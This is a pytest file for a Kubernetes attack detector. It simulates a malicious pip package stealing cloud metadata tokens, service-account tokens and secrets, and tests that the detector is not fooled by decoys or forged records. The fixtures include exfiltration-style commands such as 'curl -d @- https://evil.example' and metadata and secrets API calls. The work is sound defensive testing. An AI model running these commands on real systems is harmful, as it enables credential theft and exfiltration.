"""Attacks that must not be missed, told late, or made harmless by what the attacker does beside them."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest

from eightysix.context.baseline import Baseline
from eightysix.model.incident import Report
from eightysix.rules.catalog import load_packaged
from eightysix.serve.replay import Replay, ReplayOptions
from tests.review.stream import (
    API,
    EVIL,
    IMDS,
    NODE,
    STORE,
    TOKEN,
    Pod,
    Process,
    iso,
    judge,
    told,
    worst,
    write,
)

PYTHON = "/opt/venv/bin/python"


def server(pod: Pod) -> Process:
    process = pod.process(pod.started + 0.03, PYTHON, "/app/server.py")
    process.connect(pod.started + 1, IMDS)
    process.connect(pod.started + 1.04, STORE)
    return process


def pip(pod: Pod, at: float, what: str = "torch-perf-utils", **fields: int) -> Process:
    process = pod.process(at, f"{PYTHON}3", f"/opt/venv/bin/pip install -q -U {what}", **fields)  # type: ignore[arg-type]
    process.installs(at + 0.5, what, "1.4.3")
    process.exit(at + 1)
    return process


def steal(pod: Pod, process: Process, at: float, code: int = 200, *, leave: bool = True) -> None:
    process.connect(at, IMDS)
    process.file(at + 0.6, TOKEN)
    process.connect(at + 0.605, API)
    pod.api(at + 0.608, "list", "secrets", code=code)
    pod.api(at + 0.9, "get", "secrets", "acr-push-sp", code=code)
    if leave:
        process.connect(at + 1.5, EVIL)


def breach() -> tuple[Pod, Process]:
    pod = Pod(init_tree=False)
    process = server(pod)
    pip(pod, 5)
    return pod, process


def test_a_connection_to_a_similar_address_hides_nothing(tmp_path: Path) -> None:
    """`169.254.169.25` port 480 and `169.254.169.254` port 80 have the same digits when written without a separator."""
    pod, process = breach()
    pod.kernel = [record for record in pod.kernel if record["time"] < iso(4)]
    process.connect(3, ("169.254.169.25", 480))
    process.connect(3.1, ("10.96.0.14", 43))
    early, pod.kernel = pod.kernel, []
    pip(pod, 5)
    steal(pod, process, 9)
    paths = [
        write(tmp_path, "a.jsonl", early),
        write(tmp_path, "b.jsonl", pod.kernel),
        write(tmp_path, "c.jsonl", pod.audit),
    ]
    assert worst(Replay(load_packaged(), ReplayOptions()).read(paths, None)) == "contain"


@pytest.mark.parametrize("sources", ["k", "ka"])
def test_credentials_taken_by_two_children_of_the_running_server(tmp_path: Path, sources: str) -> None:
    """One process or its descendants: the code that landed in the server shells out for every step."""
    pod = Pod(init_tree=False)
    process = pod.process(0.03, PYTHON, "/app/server.py")
    pip(pod, 5)
    shell = pod.process(7.9, "/bin/sh", "-c step", process)
    pod.process(8, "/usr/bin/curl", "-s -H Metadata:true http://169.254.169.254/", shell).connect(8.1, IMDS)
    pod.process(9, "/usr/bin/python3", "read.py", shell).file(9.1, TOKEN)
    pod.process(10, "/usr/bin/curl", "-sk https://10.96.0.1/api/v1/secrets", shell).connect(10.1, API)
    pod.api(10.2, "list", "secrets")
    pod.api(10.4, "get", "secrets", "acr-push-sp")
    pod.process(11, "/usr/bin/curl", "-d @- https://evil.example", shell).connect(11.1, EVIL)
    assert worst(judge(tmp_path, pod, sources=sources)) in ("suspect", "contain")


def _baseline() -> Baseline:
    pod = Pod(n=77, init_tree=False)
    server(pod)
    replay = Replay([], ReplayOptions())
    with tempfile.TemporaryDirectory() as folder:
        for events in replay.events([write(Path(folder), "b.jsonl", pod.kernel)], None):
            replay.engine.feed(events)
    return replay.build_baseline()[0]


def test_a_beacon_before_the_theft_does_not_hide_the_exfiltration(tmp_path: Path) -> None:
    """Only the earliest connection of a process to a place is kept, so one before the credentials hides all later ones."""
    pod, process = breach()
    process.connect(8, EVIL)
    steal(pod, process, 9)
    (incident,) = judge(tmp_path, pod, sources="ka").incidents
    assert ("leave", 5.5) in told(incident)


def test_a_beacon_does_not_close_the_gate(tmp_path: Path) -> None:
    """Cloud and registry credentials, then a destination new to the workload: `contain` with and without the beacon."""
    verdicts = []
    for beacon in (False, True):
        pod, process = breach()
        if beacon:
            process.connect(8, EVIL)
        process.connect(9, IMDS)
        process.file(9.5, "/root/.docker/config.json")
        process.connect(10, EVIL)
        verdicts.append(worst(judge(tmp_path, pod, sources="k", baseline=_baseline())))
    assert verdicts == ["contain", "contain"]


def test_impersonating_with_the_stolen_token_is_use_of_it(tmp_path: Path) -> None:
    """Sensor and audit: the API server saw the pod's token list secrets, as somebody else."""
    pod = Pod(init_tree=False)
    chain = ["torch-perf-utils==1.4.3"]
    pod.sense(
        5, "sensor_start", 13, [], argv=["/opt/venv/bin/pip", "install", "-U", "torch-perf-utils"], ppid=0
    )
    url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    pod.sense(9, "http", 1, chain, url=url, method="GET", age=3.0)
    pod.sense(9.001, "connect", 1, chain, dst=IMDS[0], dport=80, age=3.0)
    pod.sense(9.6, "open", 1, chain, path=TOKEN, mode="r", age=3.0)
    pod.sense(9.605, "connect", 1, chain, dst=API[0], dport=443, age=3.0)
    pod.api(9.61, "list", "secrets", impersonate="system:serviceaccount:kube-system:admin")
    assert worst(judge(tmp_path, pod, sources="as")) == "contain"


def test_what_the_pod_says_does_not_rename_the_artifact(tmp_path: Path) -> None:
    """A forged sensor record of an install that the kernel never saw must not take the place of the one that it saw."""
    pod, process = breach()
    steal(pod, process, 9)
    pod.sense(8.7, "sensor_start", 99, [], argv=["/opt/venv/bin/pip", "install", "numpy"], ppid=0, tid=99)
    (incident,) = judge(tmp_path, pod).incidents
    assert any("torch-perf-utils" in s.process for s in incident.stages if s.stage == "land")


def _decoy(
    process: Process, at: float, number: int, binary: str, arguments: str, parent: str = ""
) -> dict[str, object]:
    told_ = process.told | {
        "exec_id": f"ZGVjb3k6{number}",
        "pid": 100_000 + number,
        "binary": binary,
        "arguments": arguments,
        "start_time": iso(at),
    }
    return told_ | ({"parent_exec_id": parent} if parent else {})


def test_decoy_reads_around_the_theft_do_not_lower_the_verdict(tmp_path: Path) -> None:
    """A few hundred `cat token` before and after push the true process's own take out of the state."""
    pod, process = breach()
    steal(pod, process, 9)
    for number in range(600):
        at = 2 + number * 0.01 if number < 300 else 12 + number * 0.01
        reader = _decoy(process, at, number, "/bin/cat", TOKEN, process.exec_id)
        pod.kernel.append(
            {
                "process_kprobe": {
                    "process": reader,
                    "function_name": "security_file_permission",
                    "policy_name": "files",
                    "args": [{"file_arg": {"path": TOKEN}}, {"int_arg": 4}],
                },
                "node_name": NODE,
                "time": iso(at),
                "cluster_name": "aks-ml-prod",
            }
        )
    assert worst(judge(tmp_path, pod, sources="ka")) == "contain"


def test_the_true_install_is_named_between_decoys_without_a_common_parent(tmp_path: Path) -> None:
    """T0 is the latest landing before the first credential, however many others there are before and after."""
    pod = Pod(init_tree=False)
    process = server(pod)
    pip(pod, 60)
    steal(pod, process, 64)
    for number in range(8000):
        at = 2 + number * 0.008 if number < 7000 else 66 + number * 0.01
        decoy = _decoy(process, at, number, f"{PYTHON}3", f"/opt/venv/bin/pip install decoy-{number}")
        pod.kernel.append({"process_exec": {"process": decoy}, "node_name": NODE, "time": iso(at)})
    pod.kernel.sort(key=lambda record: record["time"])
    report: Report = judge(tmp_path, pod, sources="ka")
    assert report.coverage.flooded
    assert any("torch-perf-utils" in s.process for s in report.incidents[0].stages if s.stage == "land")
